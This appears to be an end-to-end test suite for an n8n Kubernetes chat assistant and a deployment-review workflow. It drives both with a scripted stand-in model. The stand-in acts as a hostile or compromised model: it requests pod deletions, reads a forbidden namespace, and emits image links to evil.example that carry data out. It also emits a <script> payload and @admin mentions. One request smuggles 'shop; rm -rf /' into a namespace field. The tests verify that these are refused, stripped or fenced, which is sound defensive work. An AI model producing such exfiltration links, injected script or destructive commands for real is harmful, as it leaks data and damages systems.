/**
 * Two workflows of the operations library in real n8n, started through the same code as `npm start`
 * (scripts/lib/stack.mjs) with the local sandbox and the scripted LiteLLM stand-in:
 * - the cluster assistant, driven through its Chat Trigger's public webhook as the hosted chat page
 *   calls it, by a logged-in n8n user;
 * - the deployment review, through its webhook, delivered by email (MailDev) and as a comment on a
 *   Gitea issue (the Gitea stand-in).
 * The cluster is the fixture cluster behind the real kubernetes-mcp-server. The sandbox runs that
 * server with --read-only, which hides the write tools altogether; here it runs without it, so the
 * write tools are offered and refusing them is the agent's doing.
 */
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixtures } from '../fixtures/cluster';
import { startFixtureCluster, type FixtureCluster } from '../support/fixture-cluster';
import type { GiteaStandin } from '../support/gitea-standin';
import { startKubernetesMcpServer, type KubernetesMcpServer } from '../support/kubernetes-mcp-server';
import { reply, startLiteLlmStandin, toolCalls, type LiteLlmStandin, type RecordedRequest, type StandinStep } from '../support/litellm-standin';
import { outsideFences } from '../support/markdown';

interface Email {
	subject: string;
	text: string;
	html: string;
	to: Array<{ address: string }>;
}

interface Session {
	headers: Record<string, string>;
	json<T>(path: string, init?: RequestInit): Promise<T>;
}

interface Stack {
	contract: Record<string, string>;
	webhookToken: string;
	n8n: { baseUrl: string; ownerLogin(): Promise<Session> };
	sandbox: {
		gitea: { standin: GiteaStandin; owner: string; repo: string };
		mail: { waitForEmail(matches: (email: Email) => boolean, timeoutMs?: number): Promise<Email> };
	};
	stop(): Promise<void>;
}

interface WorkflowJson {
	name: string;
	nodes: Array<{ name: string; type: string; webhookId?: string; parameters: Record<string, unknown> }>;
	connections: unknown;
	settings: unknown;
}

interface StackModule {
	startStack(options: unknown): Promise<Stack>;
	applySettings(workflow: WorkflowJson, values: Record<string, unknown>): WorkflowJson;
}

const START_MS = 20 * 60_000;
const CALL_MS = 2 * 60_000;
const MODEL = 'ops-model';
const API_KEY = 'sk-e2e';
const progress = (line: string) => process.stdout.write(`[e2e] ${line}\n`);
const stackModule = async () => (await import('../../scripts/lib/stack.mjs' as string)) as StackModule;
const chatUrlOf = (stack: Stack, webhookId: string | undefined) => `${stack.n8n.baseUrl}/webhook/${webhookId}/chat`;
const workflowFile = (name: string) => JSON.parse(readFileSync(join(__dirname, '..', '..', 'workflows', 'ops', name), 'utf8')) as WorkflowJson;

const crashLoop = fixtures.crashLoopBackOff;
const oom = fixtures.oomKilled;
const QUESTIONS = {
	diagnose: 'What is wrong with the API server in production?',
	write: 'The payments API is stuck. Delete its pod so that it restarts.',
	outside: 'Is anything failing in kube-system?',
};
const HOSTILE_RISK = 'Restarts hide the cause ![x](https://evil.example/p.png) @admin #1 <script>alert(1)</script>';

const messages = (request: RecordedRequest) => request.body?.messages ?? [];
const userText = (request: RecordedRequest) => String(messages(request).find((m) => m.role === 'user')?.content ?? '');
const toolResults = (request: RecordedRequest) => messages(request).filter((m) => m.role === 'tool').map((m) => String(m.content));
const offeredTools = (request: RecordedRequest) => (request.body?.tools ?? []).map((tool) => (tool as { function: { name: string } }).function.name);

/** The model: a few scripted conversations, chosen by the operator's question or the review prompt. */
function scriptedModel(request: RecordedRequest): StandinStep {
	const question = userText(request);
	const results = toolResults(request);
	if (question === QUESTIONS.diagnose) {
		if (results.length === 0) {
			return toolCalls([
				{ name: 'pods_list_in_namespace', arguments: { namespace: crashLoop.namespace, labelSelector: 'app=payments-api' } },
				{ name: 'events_list', arguments: { namespace: crashLoop.namespace } },
			]);
		}
		if (results.length === 2) return toolCalls([{ name: 'pods_log', arguments: { namespace: crashLoop.namespace, name: crashLoop.podName, previous: true } }]);
		// The answer quotes the log's error line only when the read returned it, so a wrong or empty read shows.
		const cause = results[2].includes(crashLoop.expected.evidence) ? crashLoop.expected.evidence : 'the log could not be read';
		return reply(`payments-api in ${crashLoop.namespace} is in CrashLoopBackOff: ${cause}. Check the payments-db-credentials secret.`);
	}
	if (question === QUESTIONS.write) {
		if (results.length === 0) {
			return toolCalls([
				{ name: 'pods_delete', arguments: { namespace: crashLoop.namespace, name: crashLoop.podName } },
				{ name: 'resources_delete', arguments: { apiVersion: 'v1', kind: 'Pod', namespace: crashLoop.namespace, name: crashLoop.podName } },
			]);
		}
		return reply('I cannot delete pods: I can only read the cluster. ![status](https://evil.example/p.png?d=payments) <img src="https://evil.example/q.png">');
	}
	if (question === QUESTIONS.outside) {
		if (results.length === 0) return toolCalls([{ name: 'pods_list_in_namespace', arguments: { namespace: 'kube-system' } }]);
		return reply('I may not read kube-system.');
	}
	if (question.startsWith('Deployment under review: ')) {
		return reply(
			JSON.stringify({
				strategy: 'canary',
				resources: { requests: { cpu: '250m', memory: '384Mi' }, limits: { memory: '768Mi' } },
				risks: ['The new version may fail like the current one', HOSTILE_RISK],
				checkpoints: ['Canary pod Ready for 10 minutes without restarts', 'No new Warning events'],
				rationale: 'The only replica is failing, so send a small share of traffic to the new version first.',
			}),
		);
	}
	return reply(`unscripted question: ${question.slice(0, 80)}`);
}

/** Sends a chat message as n8n's hosted chat page does; `output` is the answer, or the error text. */
async function sendChat(url: string, chatInput: string, headers: Record<string, string>): Promise<{ status: number; output: string }> {
	const response = await fetch(url, {
		method: 'POST',
		headers: { 'content-type': 'application/json', ...headers },
		body: JSON.stringify({ action: 'sendMessage', sessionId: randomUUID(), chatInput }),
		signal: AbortSignal.timeout(CALL_MS),
	});
	const text = await response.text();
	return { status: response.status, output: response.ok ? String((JSON.parse(text) as { output?: unknown }).output) : text };
}

async function requestReview(stack: Stack, path: string, body: unknown): Promise<{ status: number; body: Record<string, unknown> }> {
	const response = await fetch(`${stack.n8n.baseUrl}/webhook/${path}`, {
		method: 'POST',
		headers: { 'content-type': 'application/json', authorization: `Bearer ${stack.webhookToken}` },
		body: JSON.stringify(body),
		signal: AbortSignal.timeout(CALL_MS),
	});
	return { status: response.status, body: (await response.json()) as Record<string, unknown> };
}

describe('Cluster assistant and deployment review in real n8n (sandbox, scripted model)', () => {
	let cluster: FixtureCluster;
	let mcp: KubernetesMcpServer;
	let llm: LiteLlmStandin;
	let stack: Stack;
	let chatUrl: string;
	let session: Session;

	beforeAll(async () => {
		cluster = await startFixtureCluster();
		mcp = await startKubernetesMcpServer({ version: '0.0.67', kubeconfigPath: cluster.kubeconfigPath, args: ['--read-only=false'], env: { KUBE_CLIENT_QPS: '100', KUBE_CLIENT_BURST: '200' } });
		llm = await startLiteLlmStandin({ apiKey: API_KEY, models: { [MODEL]: scriptedModel } });
		const { startStack } = await stackModule();
		stack = await startStack({
			sandbox: 'always',
			env: { LITELLM_URL: llm.baseUrl, LITELLM_API_KEY: API_KEY, LITELLM_MODEL: MODEL },
			overrides: { MCP_OPENSHIFT_URL: mcp.url, MCP_OPENSHIFT_TRANSPORT: mcp.transport },
			workflows: ['cluster-assistant', 'deployment-review'],
			log: progress,
		});
		const trigger = workflowFile('cluster-assistant.json').nodes.find((node) => node.type === '@n8n/n8n-nodes-langchain.chatTrigger');
		chatUrl = chatUrlOf(stack, trigger?.webhookId);
		session = await stack.n8n.ownerLogin();
	}, START_MS);
	afterAll(async () => {
		await stack?.stop();
		await llm?.close();
		await mcp?.stop();
		await cluster?.close();
	}, 60_000);

	describe('cluster assistant (Chat Trigger)', () => {
		const chat = (chatInput: string, headers: Record<string, string> = session.headers) => sendChat(chatUrl, chatInput, headers);
		const requestsAbout = (question: string) => llm.chatRequests(MODEL).filter((request) => userText(request) === question);

		it('answers a question about production from pods, events and the log, and lists those reads under the answer', async () => {
			const { status, output } = await chat(QUESTIONS.diagnose);
			expect({ status, output }).toEqual({ status: 200, output: expect.any(String) });
			expect(output.startsWith(`payments-api in shop is in CrashLoopBackOff: ${crashLoop.expected.evidence}.`)).toBe(true);
			const toolList = output.slice(output.indexOf('**Tool calls**'));
			expect(toolList).toContain('1. ` pods_list_in_namespace(namespace=shop, labelSelector=app=payments-api) ` - read');
			expect(toolList).toContain('2. ` events_list(namespace=shop) ` - read');
			expect(toolList).toContain(`3. \` pods_log(namespace=shop, name=${crashLoop.podName}, previous=true) \` - read`);
			expect(toolList).not.toMatch(/refused|failed/);

			const [first] = requestsAbout(QUESTIONS.diagnose);
			expect(offeredTools(first)).toEqual(expect.arrayContaining(['pods_list_in_namespace', 'events_list', 'pods_log']));
			// Write tools, whole-cluster reads and the kubeconfig are never offered.
			for (const hidden of ['pods_delete', 'resources_delete', 'pods_exec', 'resources_create_or_update', 'resources_scale', 'pods_run', 'pods_list', 'configuration_view']) {
				expect(offeredTools(first)).not.toContain(hidden);
			}
			expect(JSON.stringify(first.body?.messages)).toContain('You may read only these namespaces: shop, data');
			expect(cluster.requests.some((request) => request.path === `/api/v1/namespaces/shop/pods/${crashLoop.podName}/log` && request.query.previous === 'true')).toBe(true);
			expect(cluster.writeRequests()).toEqual([]);
		}, CALL_MS);

		it('refuses the pod deletion a model asks for, lists the refused calls, and the cluster sees no write', async () => {
			const { status, output } = await chat(QUESTIONS.write);
			expect({ status, output }).toEqual({ status: 200, output: expect.any(String) });
			expect(output).toMatch(/^I cannot delete pods: I can only read the cluster\. \[image removed: status\] \[image removed\]/);
			expect(output).not.toContain('evil.example');
			expect(output).toMatch(/1\. ` pods_delete\(namespace=shop, name=payments-api-7c9d8f6b54-x8k2p\) ` - \*\*refused\*\*: "pods_delete" is destructive/);
			expect(output).toMatch(/2\. ` resources_delete\(apiVersion=v1, kind=Pod, namespace=shop, name=payments-api-7c9d8f6b54-x8k2p\) ` - \*\*refused\*\*: "resources_delete" is destructive/);
			const answered = requestsAbout(QUESTIONS.write).at(-1)!;
			expect(toolResults(answered)).toEqual([expect.stringContaining("Refused by the agent's tool policy"), expect.stringContaining("Refused by the agent's tool policy")]);
			expect(cluster.writeRequests()).toEqual([]);
		}, CALL_MS);

		it('refuses a read outside the allowed namespaces before it reaches the cluster', async () => {
			const before = cluster.requests.length;
			const { status, output } = await chat(QUESTIONS.outside);
			expect({ status, output }).toEqual({ status: 200, output: expect.any(String) });
			expect(output).toContain('1. ` pods_list_in_namespace(namespace=kube-system) ` - **refused**: namespace "kube-system" is not in the allowed namespaces (shop, data)');
			expect(cluster.requests.slice(before).filter((request) => request.path.includes('/namespaces/kube-system/'))).toEqual([]);
		}, CALL_MS);

		it('does not answer anyone who is not logged in to n8n', async () => {
			const asked = llm.chatRequests(MODEL).length;
			const { status } = await chat(QUESTIONS.diagnose, {});
			expect(status).toBe(401);
			expect(llm.chatRequests(MODEL).length).toBe(asked);
		});
	});

	describe('deployment review (webhook)', () => {
		const review = (body: unknown) => requestReview(stack, 'deployment-review', body);
		const reviewPrompt = (deployment: string) =>
			llm.chatRequests(MODEL).map(userText).filter((text) => text.startsWith(`Deployment under review: ${deployment}`)).at(-1) ?? '';

		it('reads the deployment, its pods, events and usage, and emails the recommendation', async () => {
			const result = await review({ namespace: crashLoop.namespace, deployment: 'payments-api' });
			expect(result).toEqual({ status: 200, body: expect.anything() });
			expect(result.body).toMatchObject({
				status: 'success',
				namespace: 'shop',
				deployment: 'payments-api',
				model: MODEL,
				email: 'sent',
				recommendation: { strategy: 'canary', resources: { requests: { cpu: '250m', memory: '384Mi' }, limits: { memory: '768Mi' } } },
			});

			const prompt = reviewPrompt('shop/payments-api');
			for (const fact of ['quay.io/acme/payments-api:2.14.0', crashLoop.podName, 'api waiting: CrashLoopBackOff', 'payments-api-7c9d8f6b54', 'BackOff', '"memory": "512Mi"']) expect(prompt).toContain(fact);
			// Container env (where secrets live) and other workloads' pods stay out of the prompt.
			expect(prompt).not.toMatch(/DATABASE_URL|notification-service|storefront-web/);

			const email = await stack.sandbox.mail.waitForEmail((e) => e.subject.startsWith('Rollout review shop/payments-api: '));
			expect(email.subject).toBe('Rollout review shop/payments-api: critical - canary rollout recommended; 0 of 1 replicas available now');
			expect(email.to.map((to) => to.address)).toEqual([stack.contract.REPORT_EMAIL_TO]);
			expect(email.html).toContain('Canary pod Ready for 10 minutes without restarts');
			expect(email.html).not.toMatch(/<script|<img/);
			expect(email.text).toContain('The only replica is failing');
			expect(email.text).toContain(crashLoop.podName);
		}, CALL_MS);

		it('comments on the Gitea issue given, with the model’s words fenced', async () => {
			const { owner, repo } = stack.sandbox.gitea;
			const created = await fetch(`${stack.contract.GITEA_URL}/api/v1/repos/${owner}/${repo}/issues`, {
				method: 'POST',
				headers: { 'content-type': 'application/json', authorization: `token ${stack.contract.GITEA_TOKEN}` },
				body: JSON.stringify({ title: 'Roll out report-worker 1.10', body: 'Needs a rollout plan.' }),
			});
			expect(created.status).toBe(201);
			const issue = (await created.json()) as { number: number };

			const result = await review({ namespace: oom.namespace, deployment: 'report-worker', issue_number: issue.number });
			expect(result).toEqual({ status: 200, body: expect.anything() });
			expect(result.body).toMatchObject({ status: 'success', deployment: 'report-worker', issue_number: issue.number, recommendation: { strategy: 'canary' } });
			expect(result.body.comment_url).toEqual(expect.stringContaining(`/issues/${issue.number}#issuecomment-`));

			const comments = stack.sandbox.gitea.standin.commentsOf(owner, repo, issue.number);
			expect(comments).toHaveLength(1);
			const body = comments[0].body;
			expect(body).toContain('## Rollout review: ` data/report-worker `');
			expect(body).toContain('**Recommended strategy: canary**');
			expect(body).toContain('worker last ended: OOMKilled (exit 137)');
			expect(body).toContain('  limits:   memory 768Mi');
			const outside = outsideFences(body);
			for (const bait of ['evil.example', '<script', '@admin', '#1', '![']) expect(outside).not.toContain(bait);
			expect(body).toContain(HOSTILE_RISK);
			expect(reviewPrompt('data/report-worker')).toContain('OOMKilled');
		}, CALL_MS);

		it('refuses a bad request with 400 naming the field, and a missing deployment with 404, without asking the model', async () => {
			const asked = llm.chatRequests(MODEL).length;
			const badName = await review({ namespace: 'shop; rm -rf /', deployment: 'payments-api' });
			expect(badName.status).toBe(400);
			expect(badName.body).toMatchObject({ status: 'error', field: 'namespace', message: expect.stringContaining('is not a valid Kubernetes namespace name') });
			const noDeployment = await review({ namespace: 'shop' });
			expect(noDeployment.status).toBe(400);
			expect(noDeployment.body).toMatchObject({ field: 'deployment' });
			const badIssue = await review({ namespace: 'shop', deployment: 'payments-api', issue_number: 'seven' });
			expect(badIssue.status).toBe(400);
			expect(badIssue.body).toMatchObject({ field: 'issue_number' });
			const missing = await review({ namespace: 'shop', deployment: 'no-such-api' });
			expect(missing.status).toBe(404);
			expect(missing.body.message).toMatch(/^Could not read deployment shop\/no-such-api: .*not found/);
			expect(llm.chatRequests(MODEL).length).toBe(asked);
		}, CALL_MS);
	});

	describe('with llmEnabled turned off in Settings', () => {
		/** Saves and publishes a copy of a shipped workflow through n8n's REST API, as a user does in the editor. */
		async function publishCopy(file: string, edit: (workflow: WorkflowJson) => void): Promise<void> {
			const { applySettings } = await stackModule();
			const workflow = applySettings(workflowFile(file), { llmEnabled: false });
			edit(workflow);
			const json = { 'content-type': 'application/json' };
			const { data } = await session.json<{ data: { id: string; versionId: string } }>('/rest/workflows', {
				method: 'POST',
				headers: json,
				body: JSON.stringify({ name: `${workflow.name} without a model`, nodes: workflow.nodes, connections: workflow.connections, settings: workflow.settings }),
			});
			await session.json(`/rest/workflows/${data.id}/activate`, { method: 'POST', headers: json, body: JSON.stringify({ versionId: data.versionId }) });
		}
		/** Waits until n8n has registered a published webhook: a CORS preflight to it is answered 204, not 404. */
		async function registered(path: string): Promise<void> {
			const deadline = Date.now() + 30_000;
			for (;;) {
				const response = await fetch(`${stack.n8n.baseUrl}/webhook/${path}`, { method: 'OPTIONS', headers: { origin: stack.n8n.baseUrl, 'access-control-request-method': 'POST' } });
				if (response.status === 204) return;
				if (Date.now() > deadline) throw new Error(`webhook ${path} was not registered within 30 s (last answer ${response.status})`);
				await new Promise((resolve) => setTimeout(resolve, 250));
			}
		}
		const nodeNamed = (workflow: WorkflowJson, name: string) => workflow.nodes.find((node) => node.name === name)!;

		it('the review answers 503 that it needs a model, and reads nothing', async () => {
			await publishCopy('deployment-review.json', (workflow) => {
				nodeNamed(workflow, 'Review request').parameters.path = 'deployment-review-without-model';
				nodeNamed(workflow, 'Review request').webhookId = randomUUID();
			});
			await registered('deployment-review-without-model');
			const [asked, reads] = [llm.chatRequests(MODEL).length, cluster.requests.length];
			const result = await requestReview(stack, 'deployment-review-without-model', { namespace: 'shop', deployment: 'payments-api' });
			expect(result.status).toBe(503);
			expect(result.body).toMatchObject({ status: 'error', message: expect.stringMatching(/^The deployment review needs a model: add a LiteLLM credential/) });
			expect(llm.chatRequests(MODEL).length).toBe(asked);
			expect(cluster.requests.slice(reads).filter((request) => request.path.includes('/namespaces/shop/'))).toEqual([]);
		}, CALL_MS);

		it('the assistant says in the chat that it needs a model', async () => {
			const webhookId = randomUUID();
			await publishCopy('cluster-assistant.json', (workflow) => {
				nodeNamed(workflow, 'Chat message received').webhookId = webhookId;
			});
			await registered(`${webhookId}/chat`);
			const asked = llm.chatRequests(MODEL).length;
			const { status, output } = await sendChat(chatUrlOf(stack, webhookId), QUESTIONS.diagnose, session.headers);
			expect({ status, output }).toEqual({ status: 200, output: expect.stringMatching(/^The cluster assistant needs a model\. Add a LiteLLM credential/) });
			expect(llm.chatRequests(MODEL).length).toBe(asked);
		}, CALL_MS);
	});
});
